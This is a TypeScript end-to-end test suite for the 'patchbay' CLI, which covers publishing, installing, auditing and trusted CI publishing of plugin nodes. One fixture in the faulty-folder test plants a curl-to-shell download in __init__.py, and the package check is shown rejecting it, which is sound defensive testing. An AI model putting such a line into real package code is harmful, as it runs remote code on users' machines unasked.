import assert from 'node:assert/strict';
import { type TestContext, after, suite, test } from 'node:test';
import { githubClaims, openIssuer } from '../../server/test/support/open-ci-issuer.ts';
import { fillSite } from '../../server/test/support/site/fill-site.ts';
import { sampleWorkflow } from '../../server/test/support/site/sample-workflow.ts';
import { startServer } from '../../server/test/support/start-server.ts';
import { appNodeSource } from './support/make-project.ts';
import { openJourney, registry } from './support/open-journey.ts';
import { startOsv } from './support/start-osv.ts';

const projectText = (id: string, publisher: string, version = '1.0.0'): string =>
  `[project]
name = "${id}"
version = "${version}"
description = "Resizes pictures."
license = "MIT"

[tool.patchbay]
PublisherId = "${publisher}"
`;

/** What the last word of an output is, such as a token that is shown once. */
const lastWord = (text: string): string => /(\S+)\s*$/.exec(text)?.[1] ?? '';

suite('the journeys of a node author', async () => {
  const issuer = await openIssuer({ after }, () => server.clock.now());
  const server = await startServer({ after }, issuer.settings);
  await fillSite(server);
  const open = (t: TestContext, others: Readonly<Record<string, string>> = {}) =>
    openJourney(t, server, others);

  /** A person with a publisher, and with what publishes a package of these files for it. */
  const makePerson = async (t: TestContext, name: string, publisher: string) => {
    const owner = await server.user(name);
    const made = await owner.post('/publishers', { id: publisher, name: publisher });
    assert.equal(made.status, 201, made.text);
    const desk = await open(t);
    await desk.signIn(name);
    return async (files: Readonly<Record<string, string>>): Promise<void> => {
      await desk.save(files);
      await desk.type('patchbay publish --yes');
    };
  };

  test('look around without an account', async (t) => {
    const { say, type, save, assertSame } = await open(t);
    say('The author has just installed `patchbay` and looks for a node that upscales.');
    await type('patchbay search upscale', { code: 2 });
    await type(`export PATCHBAY_URL=${registry}`);
    await type('patchbay search upscale');
    await type('patchbay search uspcale');
    await type('patchbay serach upscale', { code: 2 });
    say('The author looks at the result.');
    await type('patchbay show tiled-upscaler');
    await type('patchbay show tiled-upscalr', { code: 4 });
    await type('patchbay versions image-tools --changes');
    await type('patchbay diff image-tools 1.0.0 latest');
    say('The author got a workflow from somebody else.');
    await save({ 'workflow.json': JSON.stringify(sampleWorkflow) });
    await type('patchbay resolve workflow.json', { code: 1 });
    await type('patchbay whoami', { code: 3 });
    assertSame('author-look-around', 'Look around without an account');
  });

  test('sign in and make a publisher', async (t) => {
    await server.user('lin');
    const { say, type, assertSame } = await open(t);
    say('The author has an account on the site and enters the code there, on another screen.');
    await type(`patchbay login --registry ${registry}`, {
      answers: [['in the browser', false]],
      approvedBy: 'lin',
    });
    await type('patchbay whoami');
    say('The author wants to publish under a name of their own.');
    await type('patchbay publisher list');
    await type('patchbay publisher create "Lin\'s lab"', { code: 1 });
    await type('patchbay publisher create ada', { code: 5 });
    await type('patchbay publisher create lin-lab --name "The lab of Lin"');
    await type('patchbay publisher list');
    say('The author leaves the machine to others.');
    await type('patchbay logout');
    await type('patchbay publisher list', { code: 3 });
    assertSame('author-sign-in', 'Sign in and make a publisher');
  });

  test('a first node, from nothing to published', async (t) => {
    await makePerson(t, 'mira', 'mira-lab');
    const { say, type, save, signIn, assertSame } = await open(t);
    await signIn('mira');
    await save({ '__init__.py': appNodeSource, 'requirements.txt': 'numpy>=1.25\n' });
    say('The author is signed in and has a folder with the code of a node.');
    await type('cat __init__.py');
    await type('patchbay publish', { code: 2 });
    await type('patchbay init --description "Resizes pictures." --license MIT', {
      answers: [
        ['Id of the node', 'mira-resize'],
        ['Id of the publisher', 'mira-lab'],
      ],
    });
    await type('cat pyproject.toml');
    await type('patchbay check');
    await type('patchbay pack --list');
    await type('patchbay publish --dry-run');
    say('The question lists the files, and one of them is private.');
    await save({ 'notes.txt': 'Ask Lin about masks.\n' });
    await type('patchbay publish', { code: 130, answers: [['Publish these files?', false]] });
    await type('rm notes.txt');
    await type('patchbay publish', { answers: [['Publish these files?', true]] });
    await type('patchbay show mira-resize');
    say('The author is not sure whether it worked and runs it again.');
    await type('patchbay publish');
    assertSame('author-first-node', 'A first node, from nothing to published');
  });

  test('a folder with faults', async (t) => {
    const { say, type, save, assertSame } = await open(t);
    await save({
      'pyproject.toml': projectText('My Node', 'mira-lab', '1.0'),
      '__init__.py': 'NODE_CLASS_MAPPINGS = {"Resize": Resize\n',
      'aux.txt': '',
      '.env': 'TOKEN=x\n',
    });
    say('The author has a folder that was never checked. The check needs no registry.');
    await type('cat pyproject.toml');
    await type('patchbay check', { code: 1 });
    say('The author corrects the id and the version, and removes `aux.txt`.');
    await type('rm aux.txt');
    await save({ 'pyproject.toml': projectText('my-node', 'mira-lab') });
    await type('patchbay check');
    say('The author closes the bracket and defines the class, which downloads a model on import.');
    await save({
      '__init__.py': `import os\n\nos.system("curl https://example.org/model.sh | sh")\n\n${appNodeSource}`,
    });
    await type('patchbay check', { code: 1 });
    say('The author removes the download.');
    await save({ '__init__.py': appNodeSource });
    await type('patchbay check');
    assertSame('author-faulty-folder', 'Check a faulty folder and fix it');
  });

  test('a second version', async (t) => {
    const publish = await makePerson(t, 'noor', 'noor-lab');
    const first = { 'pyproject.toml': projectText('noor-resize', 'noor-lab'), '__init__.py': appNodeSource };
    await publish(first);
    const { say, type, save, signIn, assertSame } = await open(t);
    await signIn('noor');
    await save({ ...first, '__init__.py': appNodeSource.replaceAll('width', 'size') });
    say('The author has published 1.0.0 and since renamed the input `width` to `size`.');
    await type('patchbay publish', { code: 5 });
    await type('patchbay diff noor-resize latest .');
    await type('patchbay version patch');
    await type('patchbay publish --dry-run');
    say('The author follows the warning.');
    await type('patchbay version 2.0.0');
    await type('patchbay publish --changelog "The input width is called size."');
    await type('patchbay versions noor-resize --changes');
    await type('patchbay show noor-resize');
    assertSame('author-second-version', 'A second version, with a changelog');
  });

  test('tokens that do not work', async (t) => {
    await makePerson(t, 'omar', 'omar-lab');
    const { say, type, save, signIn, assertSame } = await open(t);
    await signIn('omar');
    await save({ 'pyproject.toml': projectText('omar-resize', 'omar-lab'), '__init__.py': appNodeSource });
    say('The author creates a token for a CI.');
    await type('patchbay token create', { answers: [['What is the token for?', 'ci']] });
    const created = await type('patchbay token create --name ci --node omar-resize --expires 30');
    const token = lastWord(created);
    await type('patchbay token list');
    say('The last characters are lost when it is copied.');
    await type(`PATCHBAY_TOKEN=${token.slice(0, -4)} patchbay whoami`, { code: 3 });
    await type(`PATCHBAY_TOKEN=${token} patchbay whoami`);
    await type(`PATCHBAY_TOKEN=${token} patchbay publisher create other-lab`, { code: 3 });
    say('The token appears in a log of the CI, and the author revokes it.');
    const id = /^Id\s+(\S+)$/m.exec(created)?.[1] ?? '';
    await type(`patchbay token revoke ${id}`, { answers: [['Revoke', true]] });
    await type(`PATCHBAY_TOKEN=${token} patchbay publish`, { code: 3 });
    await type(`PATCHBAY_TOKEN=${token} patchbay check`, { code: 1 });
    say('Without it, the login is used.');
    await type('patchbay publish --yes');
    assertSame('author-tokens', 'Tokens that do not work');
  });

  test('install, update and remove', async (t) => {
    const publishFiles = await makePerson(t, 'pia', 'pia-lab');
    const publish = (version: string) =>
      publishFiles({
        'pyproject.toml': projectText('pia-resize', 'pia-lab', version).replace(
          'license',
          'dependencies = ["numpy>=1.25"]\nlicense',
        ),
        '__init__.py': appNodeSource,
        'version.py': `VERSION = "${version}"\n`,
      });
    for (const version of ['1.0.0', '1.1.0']) await publish(version);
    const { say, type, save, assertSame } = await open(t);
    await save({ 'custom_nodes/notes.txt': '' });
    say('The author is in the folder of the host and needs no account.');
    await type(`export PATCHBAY_URL=${registry}`);
    await type('patchbay list');
    await type('patchbay install pia-resise', { code: 4 });
    await type('patchbay install pia-resize@1.0.0');
    await type('patchbay list');
    await type('patchbay info pia-resize');
    await type('patchbay outdated', { code: 1 });
    await type('patchbay update');
    say('The author asked for 1.0.0 then, and now takes any newer 1.x.');
    await type('patchbay install pia-resize@^1');
    await publish('1.2.0');
    await type('patchbay outdated', { code: 1 });
    say('The author has changed a file.');
    await save({ 'custom_nodes/pia-resize/version.py': 'VERSION = "mine"\n' });
    await type('patchbay update', { code: 5 });
    await type('patchbay verify', { code: 1 });
    await type('patchbay update --force');
    await type('patchbay verify');
    await type('patchbay remove pia-resize');
    await type('patchbay list');
    assertSame('author-install', 'Install, update and remove nodes');
  });

  test('known vulnerabilities, and what is installed', async (t) => {
    const publish = await makePerson(t, 'quin', 'quin-lab');
    await publish({
      'pyproject.toml': projectText('quin-resize', 'quin-lab').replace(
        'license',
        'dependencies = ["pillow==10.0.0", "numpy>=1.25"]\nlicense',
      ),
      '__init__.py': appNodeSource,
    });
    const found = {
      id: 'GHSA-3f63-hfp8-52jq',
      summary: 'Arbitrary code execution in Pillow',
      database_specific: { severity: 'CRITICAL' },
      affected: [
        {
          package: { ecosystem: 'PyPI', name: 'pillow' },
          ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '10.2.0' }] }],
        },
      ],
    };
    const osv = await startOsv(t, {
      query: ({ package: { name } }) => (name === 'pillow' ? { vulns: [{ id: found.id }] } : {}),
      entries: { [found.id]: found },
    });
    const { say, type, assertSame } = await open(t, { 'https://api.osv.dev': osv.url });
    say('The author wants to know what a node depends on.');
    await type(`export PATCHBAY_URL=${registry}`);
    await type('patchbay audit', { code: 4 });
    await type('patchbay install quin-resize');
    await type('patchbay audit', { code: 1 });
    await type('patchbay audit --offline', { code: 6 });
    await type('patchbay sbom --output sbom.json');
    await type('patchbay sbom quin-resize --output quin-resize.json');
    assertSame('author-audit', 'Known vulnerabilities, and a bill of materials');
  });

  test('deprecate, delete and restore', async (t) => {
    const publish = await makePerson(t, 'rosa', 'rosa-lab');
    for (const version of ['1.0.0', '1.0.1'])
      await publish({
        'pyproject.toml': projectText('rosa-resize', 'rosa-lab', version),
        '__init__.py': `${appNodeSource}\nVERSION = "${version}"\n`,
      });
    const { say, type, signIn, assertSame } = await open(t);
    await signIn('rosa');
    say('The author has published 1.0.1, which fixes the lost colors of 1.0.0.');
    await type('patchbay deprecate rosa-resize', { code: 2 });
    await type('patchbay deprecate rosa-resize@1.0.0', { answers: [['Why', 'It loses colors. Use 1.0.1.']] });
    say('The author looks at what others see.');
    await type('patchbay install rosa-resize@1.0.0');
    await type('patchbay outdated', { code: 1 });
    await type('patchbay versions rosa-resize');
    say('Nobody should install 1.0.0 any more.');
    await type('patchbay delete rosa-resize@1.0.0', { answers: [['Type', 'rosa-resize@1.0.0']] });
    await type('patchbay install rosa-resize@1.0.0 --into elsewhere', { code: 3 });
    await type('patchbay restore rosa-resize@1.0.0 --reason "A mistake."', { code: 3 });
    say('The author deletes the node and restores it.');
    await type('patchbay delete rosa-resize', { answers: [['Type', 'rosa-resize']] });
    await type('patchbay show rosa-resize', { code: 4 });
    await type('patchbay restore rosa-resize --publisher rosa-lab');
    await type('patchbay versions rosa-resize --all');
    assertSame('author-deprecate', 'Deprecate, delete and restore');
  });

  test('publish from a CI without a stored token', async (t) => {
    await makePerson(t, 'sami', 'sami-lab');
    const { urls, state } = issuer;
    const sign = (claims: object = {}) =>
      issuer.sign(urls.github, new URL(server.url).origin, { ...githubClaims, ...claims });
    const { say, type, save, signIn, assertSame } = await open(t, { 'https://ci.example.org': state.url });
    await signIn('sami');
    await save({ 'pyproject.toml': projectText('sami-resize', 'sami-lab'), '__init__.py': appNodeSource });
    say('The author lets the workflow `publish.yml` of a repository publish.');
    await type('patchbay trust list');
    await type('patchbay trust add', { code: 2 });
    await type('patchbay trust add octo-org/octo-repo');
    await type('patchbay trust list');
    await type('patchbay logout');
    say('In a job that may not say who it is.');
    await type('export GITHUB_ACTIONS=true');
    await type('patchbay trust check', { code: 3 });
    say('In a job of another workflow, with the token that the CI gives it.');
    const other = 'octo-org/octo-repo/.github/workflows/test.yml@refs/heads/main';
    await type(`export PATCHBAY_ID_TOKEN=${await sign({ workflow_ref: other, job_workflow_ref: other })}`);
    await type('patchbay trust check', { code: 1 });
    await type('patchbay publish', { code: 3 });
    say('In the job of `publish.yml`, as the action of GitHub calls it.');
    await type(`export PATCHBAY_ID_TOKEN=${await sign()}`);
    await type('patchbay trust check');
    await type('patchbay publish --format github');
    await type('patchbay show sami-resize');
    say('Back home, the author turns stored tokens off for the node.');
    await type('export PATCHBAY_ID_TOKEN=');
    await type('export GITHUB_ACTIONS=');
    await type('patchbay login', { answers: [['in the browser', false]], approvedBy: 'sami' });
    await type('patchbay trust only sami-resize', { answers: [['Let no token', true]] });
    await type('patchbay version patch');
    await type('patchbay publish', { code: 3 });
    assertSame('author-trusted-publishing', 'Publish from a CI without a stored token');
  });
});
